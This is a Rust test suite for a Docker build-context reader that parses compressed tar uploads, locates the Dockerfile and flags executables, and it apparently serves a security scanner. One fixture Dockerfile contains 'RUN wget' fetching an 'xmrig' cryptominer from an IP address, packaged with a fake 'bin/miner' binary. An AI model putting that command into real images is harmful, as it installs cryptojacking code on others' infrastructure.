use std::io::Write;

use super::{ContextFacts, ContextLimits, ContextReader};

fn read(path: &str, bytes: &[u8]) -> ContextFacts {
    read_in_pieces(path, bytes, bytes.len().max(1))
}

fn read_in_pieces(path: &str, bytes: &[u8], size: usize) -> ContextFacts {
    let mut reader = ContextReader::new(path, ContextLimits::default());
    for piece in bytes.chunks(size) {
        reader.push(piece);
    }
    reader.finish()
}

fn archive(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, content, mode) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len().try_into().unwrap());
        header.set_mode(*mode);
        builder.append_data(&mut header, name, *content).unwrap();
    }
    builder.into_inner().unwrap()
}

const DOCKERFILE: &str = "FROM alpine:3.18\nRUN wget http://203.0.113.77/xmrig\n";

fn sample() -> Vec<u8> {
    let long = format!("{}/deep.sh", "d".repeat(150));
    archive(&[
        ("a.txt", b"x".repeat(700).as_slice(), 0o644),
        ("./Dockerfile", DOCKERFILE.as_bytes(), 0o644),
        ("bin/miner", b"\x7fELF\x02\x01\x01\x00rest", 0o755),
        ("run.sh", b"#!/bin/sh\n", 0o755),
        ("lib.sh", b"#!/bin/sh\n", 0o644),
        (&long, b"MZ\x90\x00", 0o644),
        ("Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", 0o644),
        (".dockerignore", b"*.o\n", 0o644),
    ])
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn bzip2(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn xz(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = liblzma::write::XzEncoder::new(Vec::new(), 1);
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zstd(bytes: &[u8]) -> Vec<u8> {
    zstd::stream::encode_all(bytes, 1).unwrap()
}

#[test]
fn archive_is_read_in_every_coding_and_in_any_pieces() {
    let tar = sample();
    let (left, right) = tar.split_at(900);
    let double = |code: fn(&[u8]) -> Vec<u8>| [code(left), code(right)].concat();
    for (encoding, body) in [
        ("identity", tar.clone()),
        ("gzip", gzip(&tar)),
        ("bzip2", bzip2(&tar)),
        ("xz", xz(&tar)),
        ("zstd", zstd(&tar)),
        ("gzip", double(gzip)),
        ("bzip2", double(bzip2)),
        ("xz", double(xz)),
        ("zstd", double(zstd)),
    ] {
        let whole = read("Dockerfile", &body);
        assert_eq!(whole.dockerfile.as_deref(), Some(DOCKERFILE), "{encoding}");
        assert_eq!(whole.dockerignore.as_deref(), Some("*.o\n"));
        assert_eq!(whole.context.encoding.as_deref(), Some(encoding));
        assert_eq!(whole.context.files, 8);
        assert_eq!(whole.context.bytes, body.len() as u64);
        assert_eq!(whole.context.names[..2], ["a.txt", "Dockerfile"]);
        assert_eq!(whole.context.executables[..2], ["bin/miner", "run.sh"]);
        assert_eq!(whole.context.executables.len(), 3);
        assert!(whole.complete && !whole.malformed && !whole.limit_hit && !whole.gap);
        for size in [1, 2, 5, 511, 513] {
            assert_eq!(read_in_pieces("Dockerfile", &body, size), whole, "{encoding} {size}");
        }
    }
}

#[test]
fn sha256_is_of_the_upload_as_sent() {
    let facts = read("", b"FROM a\n");
    let expected = "20a51c1806196a27c0b6855656a7480447832e6a755ca8b4f0e582a41fa2534c";
    assert_eq!(facts.context.sha256.as_deref(), Some(expected));
    assert!(facts.plain_dockerfile && facts.complete);
    assert_eq!(facts.dockerfile.as_deref(), Some("FROM a\n"));
}

#[test]
fn dockerfile_is_found_where_the_call_says() {
    let tar = archive(&[
        ("Containerfile", b"FROM c\n", 0o644),
        ("sub/Dockerfile", b"FROM s\n", 0o644),
        ("dockerfile", b"FROM l\n", 0o644),
    ]);
    for (path, expected) in [
        ("", Some("FROM l\n")),
        ("Dockerfile", Some("FROM l\n")),
        ("Containerfile", Some("FROM c\n")),
        ("./sub/../sub/Dockerfile", Some("FROM s\n")),
        ("/sub/Dockerfile", Some("FROM s\n")),
        ("[\"sub/Dockerfile\"]", Some("FROM s\n")),
        ("[bad", None),
        ("other", None),
    ] {
        assert_eq!(read(path, &tar).dockerfile.as_deref(), expected, "{path}");
    }
    let podman = archive(&[("Containerfile", b"FROM c\n", 0o644)]);
    assert_eq!(read("", &podman).dockerfile.as_deref(), Some("FROM c\n"));
}

#[test]
fn later_entry_of_the_same_name_wins() {
    let tar = archive(&[
        ("Dockerfile", b"FROM harmless\n", 0o644),
        ("./Dockerfile", b"FROM late\n", 0o644),
    ]);
    assert_eq!(read("", &tar).dockerfile.as_deref(), Some("FROM late\n"));
}

#[test]
fn dockerfile_may_be_a_link() {
    for kind in [tar::EntryType::Symlink, tar::EntryType::Link] {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_size(7);
        builder.append_data(&mut header, "real", b"FROM r\n".as_slice()).unwrap();
        let mut link = tar::Header::new_gnu();
        link.set_entry_type(kind);
        link.set_size(0);
        builder.append_link(&mut link, "Dockerfile", "real").unwrap();
        let facts = read("", &builder.into_inner().unwrap());
        assert_eq!(facts.dockerfile.as_deref(), Some("FROM r\n"));
    }
    let mut builder = tar::Builder::new(Vec::new());
    let mut link = tar::Header::new_gnu();
    link.set_entry_type(tar::EntryType::Symlink);
    link.set_size(0);
    builder.append_link(&mut link, "Dockerfile", "Dockerfile").unwrap();
    let facts = read("", &builder.into_inner().unwrap());
    assert!(facts.dockerfile.is_none() && facts.dockerfile_truncated);
}

/// A ustar header block with a right checksum.
fn header(name: &str, type_flag: u8, size: usize) -> Vec<u8> {
    header_of(b"ustar\x0000", "", name, type_flag, size)
}

fn header_of(magic: &[u8], prefix: &str, name: &str, type_flag: u8, size: usize) -> Vec<u8> {
    let mut block = vec![0_u8; 512];
    block[..name.len()].copy_from_slice(name.as_bytes());
    block[100..108].copy_from_slice(b"0000644\0");
    block[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    block[156] = type_flag;
    block[257..265].copy_from_slice(magic);
    block[345..345 + prefix.len()].copy_from_slice(prefix.as_bytes());
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    block
}

fn padded(content: &[u8]) -> Vec<u8> {
    let mut content = content.to_vec();
    content.resize(content.len().next_multiple_of(512), 0);
    content
}

fn record(key: &str, value: &str) -> Vec<u8> {
    let mut length = key.len() + value.len() + 3;
    while format!("{length} {key}={value}\n").len() != length {
        length = format!("{length} {key}={value}\n").len();
    }
    format!("{length} {key}={value}\n").into_bytes()
}

#[test]
fn pax_size_belongs_to_the_file_and_not_to_the_headers_between() {
    // The size of 512 must not be applied to the long-name header that stands between, or the two
    // files that follow would be read from other offsets than the daemon reads them from.
    let size = record("size", "512");
    let hidden = [header("hidden", b'0', 7), padded(b"FROM h\n")].concat();
    let tar = [
        header("pax", b'x', size.len()),
        padded(&size),
        header("././@LongLink", b'L', 5),
        padded(b"long\0"),
        header("ignored", b'0', 0),
        padded(&b"x".repeat(512)),
        header("Dockerfile", b'0', 7),
        padded(b"FROM d\n"),
        hidden,
        vec![0; 1024],
    ]
    .concat();
    let facts = read("", &tar);
    assert_eq!(facts.context.names, ["long", "Dockerfile", "hidden"]);
    assert_eq!(facts.dockerfile.as_deref(), Some("FROM d\n"));
    assert!(facts.complete);
}

#[test]
fn pax_path_renames() {
    let path = record("path", "Dockerfile");
    let tar = [
        header("pax", b'x', path.len()),
        padded(&path),
        header("other", b'0', 7),
        padded(b"FROM d\n"),
        vec![0; 1024],
    ]
    .concat();
    assert_eq!(read("", &tar).dockerfile.as_deref(), Some("FROM d\n"));
}

#[test]
fn prefix_counts_where_the_daemon_takes_it() {
    let names = |magic: &[u8]| {
        let file = header_of(magic, "decoy", "Dockerfile", b'0', 0);
        read("", &[file, vec![0; 1024]].concat()).context.names
    };
    assert_eq!(names(b"ustar\x0000"), ["decoy/Dockerfile"]);
    assert_eq!(names(b"ustar  \0"), ["decoy/Dockerfile"]);
    assert_eq!(names(b"\0\0\0\0\0\0\0\0"), ["Dockerfile"]);
}

#[test]
fn pax_bombs_and_broken_headers_are_malformed() {
    let file = [header("Dockerfile", b'0', 7), padded(b"FROM d\n")].concat();
    let mut wrong_sum = header("x", b'0', 0);
    wrong_sum[0] = b'y';
    for bad in [
        [file.clone(), wrong_sum].concat(),
        [file.clone(), header("pax", b'x', 2 << 20), vec![b'x'; 4096]].concat(),
        [file.clone(), header("pax", b'x', 3), padded(b"9 a")].concat(),
        [file.clone(), header("g", b'g', 3), padded(b"9 a")].concat(),
        [file.clone(), vec![0; 512], file.clone()].concat(),
    ] {
        let facts = read("", &bad);
        assert!(facts.malformed && !facts.complete);
        assert_eq!(facts.dockerfile.as_deref(), Some("FROM d\n"));
        assert_eq!(read_in_pieces("", &bad, 7), facts);
    }
    let huge = [header("x", b'0', 0o77_777_777_777), vec![0; 100]].concat();
    assert!(!read("", &huge).complete);
}

#[test]
fn truncation_at_any_byte_keeps_what_was_whole() {
    let tar = sample();
    for end in (0..tar.len()).step_by(37) {
        let facts = read("", &tar[..end]);
        assert!(!facts.malformed, "{end} {facts:?}");
        if let Some(text) = &facts.dockerfile {
            assert!(DOCKERFILE.starts_with(text.as_str()));
            assert!(facts.dockerfile_truncated || text == DOCKERFILE, "{end} {facts:?}");
        }
    }
    for body in [gzip(&tar), bzip2(&tar), xz(&tar), zstd(&tar)] {
        for end in (0..body.len()).step_by(13) {
            let facts = read("", &body[..end]);
            assert!(
                !facts.malformed && (!facts.complete || facts.context.files == 8),
                "{end} {facts:?}"
            );
        }
    }
}

#[test]
fn gap_inside_a_file_costs_only_that_file() {
    let tar = sample();
    let mut reader = ContextReader::new("", ContextLimits::default());
    reader.push(&tar[..600]);
    reader.gap(100);
    reader.push(&tar[700..]);
    let facts = reader.finish();
    assert_eq!(facts.dockerfile.as_deref(), Some(DOCKERFILE));
    assert_eq!(facts.context.bytes, tar.len() as u64);
    assert!(facts.gap && facts.complete && facts.context.sha256.is_none());

    let at = tar.windows(4).position(|w| w == b"FROM").unwrap();
    let mut reader = ContextReader::new("", ContextLimits::default());
    reader.push(&tar[..at + 5]);
    reader.gap(3);
    reader.push(&tar[at + 8..]);
    let facts = reader.finish();
    assert_eq!(facts.dockerfile.as_deref(), Some("FROM "));
    assert!(facts.dockerfile_truncated && facts.complete);
}

#[test]
fn gap_elsewhere_ends_the_reading_without_a_guess() {
    let tar = sample();
    for body in [tar.clone(), gzip(&tar)] {
        let mut reader = ContextReader::new("", ContextLimits::default());
        reader.push(&body[..20]);
        reader.gap(30);
        reader.push(&body[50..]);
        let facts = reader.finish();
        assert!(facts.gap && !facts.complete && !facts.malformed);
        assert_eq!(facts.dockerfile, None);
    }
    let mut reader = ContextReader::new("", ContextLimits::default());
    reader.gap(u64::MAX);
    reader.gap(u64::MAX);
    reader.push(&tar);
    assert!(reader.finish().dockerfile.is_none());
}

#[test]
fn bomb_stops_at_the_limit() {
    let limits = ContextLimits { max_decoded_bytes: 1 << 20, ..ContextLimits::default() };
    let tar = archive(&[
        ("Dockerfile", b"FROM d\n", 0o644),
        ("zeros", vec![0; 4 << 20].as_slice(), 0o644),
        ("late", b"x", 0o644),
    ]);
    for body in [gzip(&tar), bzip2(&tar), xz(&tar), zstd(&tar)] {
        for size in [1 << 20, 100] {
            let mut reader = ContextReader::new("", limits);
            body.chunks(size).for_each(|piece| reader.push(piece));
            let facts = reader.finish();
            assert!(facts.limit_hit && !facts.complete);
            assert_eq!(facts.context.names, ["Dockerfile", "zeros"]);
            assert_eq!(facts.dockerfile.as_deref(), Some("FROM d\n"));
        }
    }
}

#[test]
fn large_dockerfile_is_cut_and_said_so() {
    let tar = archive(&[("Dockerfile", vec![b'#'; 3 << 20].as_slice(), 0o644)]);
    let facts = read("", &tar);
    assert_eq!(facts.dockerfile.map(|text| text.len()), Some(1 << 20));
    assert!(facts.dockerfile_truncated);
    let plain = read("", &vec![b'#'; 3 << 20]);
    assert!(plain.plain_dockerfile && plain.dockerfile_truncated && plain.limit_hit);
}

#[test]
fn many_names_are_counted_and_not_kept() {
    let names: Vec<String> = (0..3000).map(|n| format!("f{n}")).collect();
    let files: Vec<_> = names.iter().map(|name| (name.as_str(), b"x".as_slice(), 0o644)).collect();
    let facts = read("", &archive(&files));
    assert_eq!((facts.context.files, facts.context.names.len()), (3000, 100));
}

#[test]
fn changed_bytes_never_disagree_with_the_cut() {
    let tar = sample();
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed >> 33).unwrap()
    };
    for body in [tar.clone(), gzip(&tar), bzip2(&tar), xz(&tar), zstd(&tar)] {
        for _ in 0..60 {
            let mut body = body.clone();
            for _ in 0..=random() % 3 {
                let at = random() % body.len();
                body[at] ^= 1 << (random() % 8);
            }
            let whole = read("", &body);
            assert_eq!(read_in_pieces("", &body, 1 + random() % 900), whole);
        }
    }
}

#[test]
fn agrees_with_another_reader() {
    let tar = sample();
    let mut expected = Vec::new();
    for entry in tar::Archive::new(tar.as_slice()).entries().unwrap() {
        let path = entry.unwrap().path().unwrap().to_string_lossy().into_owned();
        expected.push(path.trim_start_matches("./").to_owned());
    }
    assert_eq!(read("", &tar).context.names, expected);
}
